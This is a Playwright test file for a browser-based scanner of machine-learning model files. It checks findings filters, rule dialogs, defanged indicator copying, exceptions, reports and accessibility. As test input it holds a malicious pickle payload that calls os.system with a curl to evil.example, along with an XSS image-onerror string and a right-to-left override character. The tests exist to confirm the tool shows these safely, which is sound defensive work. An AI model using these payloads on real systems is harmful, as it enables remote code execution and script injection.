import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join, resolve } from 'node:path'
import axe from 'axe-core'
import type { Browser, Locator, Page } from 'playwright-core'
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, test } from 'vitest'
import { launchChromium } from './chromium.ts'
import { dropFiles, expectQuiet, openPage, type Opened } from './openPage.ts'

const COMMAND = resolve('public/samples/runs-a-command.h5')
const ORDINARY = resolve('public/samples/only-computes.h5')
const HOSTILE = '<img src=x onerror=alert(1)>'

/** What loading it would run; nobody runs it here. */
const PICKLE = `cos\nsystem\n(S'curl http://evil.example/${HOSTILE}?__proto__'\ntR.`

let browser: Browser
let opened: Opened
let folder: string
let pickle: string

beforeAll(async () => {
  browser = await launchChromium()
  folder = mkdtempSync(join(tmpdir(), 'lambdascope-'))
  pickle = join(folder, 'weights.pkl')
  writeFileSync(pickle, PICKLE)
})
afterAll(async () => {
  await browser.close()
  rmSync(folder, { recursive: true })
})
beforeEach(async () => {
  opened = await openPage(browser)
})
afterEach(async () => {
  expectQuiet(opened)
  await opened.close()
})

describe('the list of findings', () => {
  test('words narrow it, by keyboard alone, and what is narrowed can be undone', async () => {
    const { page } = opened
    await open(page, COMMAND)
    const all = await rows(page).count()
    await page.keyboard.press('l')
    await page.keyboard.type('processes os.system')
    await findings(page)
      .getByText(/^1 of \d+ findings/u)
      .waitFor()
    await page.keyboard.press('ArrowDown')
    expect(await focusedRole(page)).toBe('tree')
    await page.keyboard.press('l')
    await page.keyboard.type('nothing has these words')
    await findings(page)
      .getByText(/^0 of \d+ findings/u)
      .waitFor()
    await findings(page).getByRole('button', { name: 'Show all' }).click()
    expect(await rows(page).count()).toBe(all)
  })

  test('severities are switches, and groups fold up by keyboard', async () => {
    const { page } = opened
    await open(page, COMMAND)
    await findings(page)
      .getByRole('button', { name: /^only critical, 1/u })
      .click()
    await findings(page)
      .getByText(/^1 of \d+ findings/u)
      .waitFor()
    await page.keyboard.press('1')
    await page.waitForFunction(() => document.activeElement?.getAttribute('role') === 'tree')
    await page.keyboard.press('ArrowLeft')
    await page.keyboard.press('ArrowLeft')
    await findings(page).locator('[aria-expanded="false"]').waitFor()
    expect(await rows(page).count()).toBe(1)
    await page.keyboard.press('ArrowRight')
    await findings(page).locator('[aria-expanded="true"]').waitFor()
    expect(await rows(page).count()).toBe(2)
  })

  test('layer, rule and effect narrow it too', async () => {
    const { page } = opened
    await open(page, COMMAND)
    await findings(page).getByRole('button', { name: 'By rule, layer and effect' }).click()
    await findings(page)
      .getByRole('combobox', { name: 'Layer' })
      .selectOption({ label: 'features' })
    await findings(page)
      .getByText(/: layer features/u)
      .waitFor()
    await findings(page).getByRole('combobox', { name: 'Rule' }).selectOption({ index: 1 })
    await findings(page)
      .getByText(/: [A-Z]+-\d+, layer features/u)
      .waitFor()
  })
})

describe('the rule of a finding', () => {
  test('says why, what to do, and names what is published, at official addresses only', async () => {
    const { page } = opened
    await open(page, COMMAND)
    await page.keyboard.press('r')
    const dialog = page.getByRole('dialog', { name: /^Rule [A-Z]+-\d+$/u })
    await has(dialog, 'Why')
    await has(dialog, 'Techniques of MITRE ATLAS')
    const links = await dialog.getByRole('link').all()
    expect(links.length).toBeGreaterThan(1)
    for (const link of links) {
      expect(await link.getAttribute('href')).toMatch(/^https:\/\//u)
      expect(await link.getAttribute('rel')).toContain('noopener')
    }
    await dialog.getByText(/In this model: 1 finding/u).waitFor()
    await page.keyboard.press('Escape')
    await dialog.waitFor({ state: 'detached' })
  })
})

describe('capabilities', () => {
  test('a cell lists its findings, and chooses the worst', async () => {
    const { page } = opened
    await open(page, COMMAND)
    const matrix = page.getByRole('table', { name: 'Capabilities' })
    await matrix.getByRole('button', { name: /^process when called: critical/u }).click()
    await findings(page)
      .getByText(/: process when called/u)
      .waitFor()
    await findings(page).locator('[aria-selected="true"]').getByText('Runs commands').waitFor()
  })

  test('a model that only computes is said to reach none', async () => {
    const { page } = opened
    await open(page, ORDINARY)
    await verdict(page).getByText('Capabilities: none', { exact: true }).waitFor()
  })
})

describe('a pickle', () => {
  test('is shown as source and opcodes that lead to their bytes, hostile text as text', async () => {
    const { page } = opened
    await open(page, pickle)
    await has(page.getByRole('tabpanel', { name: 'Source' }), 'from os import system')
    expect(await page.getByLabel('Version of Python that the code is read as').count()).toBe(0)
    await page.keyboard.press('d')
    const opcodes = page.getByRole('tabpanel', { name: 'Disassembly' })
    await has(opcodes, 'REDUCE')
    await opcodes.locator('.view-line', { hasText: 'GLOBAL' }).first().click()
    await page.getByText(/11 bytes of 8\d/u).waitFor()
    expect(await page.locator('img').count()).toBe(0)
  })

  test('its indicators are listed, lead to their bytes, and are copied defanged', async () => {
    const { page } = opened
    await page.context().grantPermissions(['clipboard-read', 'clipboard-write'])
    await open(page, pickle)
    await page.keyboard.press('i')
    const panel = page.getByRole('tabpanel', { name: 'Indicators' })
    await panel.getByRole('option', { name: /^URL/u }).click()
    await panel.getByRole('navigation', { name: 'Where this is' }).first().waitFor()
    await panel.getByRole('button', { name: 'Copy defanged', exact: true }).click()
    expect(await clipboard(page)).toMatch(/^hxxp:\/\/evil\[\.\]example/u)
    await panel.getByRole('button', { name: 'Copy all, defanged' }).click()
    const all = await clipboard(page)
    expect(all).toContain('command\t')
    expect(all).not.toContain('http://')
    expect(await panel.locator('a, img').count()).toBe(0)
  })
})

describe('setting a finding aside', () => {
  const REASON = `our own sample ${HOSTILE}\u202e`

  test('it needs a reason, gives both verdicts, and outlives the page until it is taken back', async () => {
    const { page } = opened
    await open(page, COMMAND)
    await setAside(page, REASON)
    await verdict(page).getByRole('heading', { name: 'Malicious' }).waitFor()
    await verdict(page).getByText('Without the 1 finding set aside:').waitFor()
    await has(verdict(page), 'Suspicious')
    await findings(page).getByText('set aside').waitFor()

    await page.reload()
    await open(page, COMMAND)
    await verdict(page)
      .getByRole('button', { name: /1 finding set aside/u })
      .click()
    const dialog = page.getByRole('dialog', { name: 'Set aside' })
    await has(dialog, `our own sample ${HOSTILE}\\u202e`)
    expect(await page.locator('img').count()).toBe(0)
    await dialog.getByRole('button', { name: 'Take back' }).click()
    await has(dialog, 'Nothing is set aside')
    await dialog.getByText('Journal (2)').waitFor()
    await page.keyboard.press('Escape')
    expect(await verdict(page).getByText('set aside').count()).toBe(0)
  })

  test('both reports have it', async () => {
    const { page } = opened
    await open(page, COMMAND)
    await setAside(page, REASON)
    const json: unknown = JSON.parse(await saved(page, 'Save as JSON'))
    expect(json).toMatchObject({
      verdict: 'malicious',
      settled: { verdict: 'suspicious', setAside: [{ reason: REASON }] },
    })
    const html = await saved(page, 'Save as a page')
    expect(html).toContain('Without what was set aside')
    expect(html).toContain('&lt;img src=x onerror=alert(1)&gt;\\u202e')
    expect(html).not.toContain('<img')
  })
})

describe.each(['dark', 'light'] as const)('the %s theme', (colorScheme) => {
  test('has no fault that axe finds, with dialogs and lists open', async () => {
    const themed = await openPage(browser, { colorScheme })
    const { page } = themed
    try {
      await open(page, COMMAND)
      await setAside(page, 'known')
      await findings(page).getByRole('button', { name: 'By rule, layer and effect' }).click()
      await page.keyboard.press('i')
      expect(await axeFaults(page)).toEqual([])
      for (const [key, title] of [
        ['r', /^Rule/u],
        ['x', /^Set a finding aside/u],
      ] as const) {
        await page.getByRole('tree', { name: 'Findings' }).focus()
        await page.keyboard.press(key)
        await page.getByRole('dialog', { name: title }).waitFor()
        expect(await axeFaults(page)).toEqual([])
        await page.keyboard.press('Escape')
      }
      expectQuiet(themed)
    } finally {
      await themed.close()
    }
  })
})

describe.each([
  [1280, 720],
  [820, 720],
])('a window of %d × %d', (width, height) => {
  test('cuts nothing off that has no other way to be read', async () => {
    const { page } = opened
    await page.setViewportSize({ width, height })
    await open(page, COMMAND)
    await setAside(page, 'known')
    for (const region of [verdict(page), findings(page), page.getByRole('banner')])
      expect(await overflow(region)).toBeLessThanOrEqual(0)
    expect(await overflow(page.locator('body'))).toBeLessThanOrEqual(0)
  })
})

async function open(page: Page, path: string): Promise<void> {
  await dropFiles(page, [path])
  await verdict(page).waitFor({ timeout: 20_000 })
  await page.getByRole('progressbar').waitFor({ state: 'detached', timeout: 30_000 })
}

/** Sets the chosen finding aside; without a reason it cannot be done. */
async function setAside(page: Page, reason: string): Promise<void> {
  await page.keyboard.press('x')
  const dialog = page.getByRole('dialog', { name: 'Set a finding aside' })
  const button = dialog.getByRole('button', { name: 'Set aside' })
  expect(await button.isDisabled()).toBe(true)
  await dialog.getByLabel('Why it does not count here').fill(reason)
  await button.click()
  await dialog.waitFor({ state: 'detached' })
}

async function saved(page: Page, form: string): Promise<string> {
  await page.getByRole('button', { name: 'Report', exact: true }).click()
  const [download] = await Promise.all([
    page.waitForEvent('download'),
    page.getByRole('button', { name: form }).click(),
  ])
  return readFileSync(await download.path(), 'utf8')
}

function verdict(page: Page): Locator {
  return page.getByRole('region', { name: 'Verdict' })
}

function findings(page: Page): Locator {
  return page.getByRole('region', { name: 'Findings' })
}

function rows(page: Page): Locator {
  return findings(page).getByRole('treeitem')
}

async function has(where: Locator, text: string): Promise<void> {
  await where.filter({ hasText: text }).first().waitFor({ timeout: 15_000 })
}

async function clipboard(page: Page): Promise<string> {
  return page.evaluate(() => navigator.clipboard.readText())
}

async function focusedRole(page: Page): Promise<string | null> {
  return page.evaluate(() => document.activeElement?.getAttribute('role') ?? null)
}

/** How many pixels are cut off at the right. */
async function overflow(where: Locator): Promise<number> {
  return where.first().evaluate(({ scrollWidth, clientWidth }) => scrollWidth - clientWidth)
}

async function axeFaults(page: Page): Promise<readonly string[]> {
  await page.evaluate(axe.source)
  const { violations } = await page.evaluate(() => window.axe.run(document))
  return violations.map(({ id, nodes }) =>
    [id, ...nodes.slice(0, 3).map(({ html }) => html)].join(' '),
  )
}
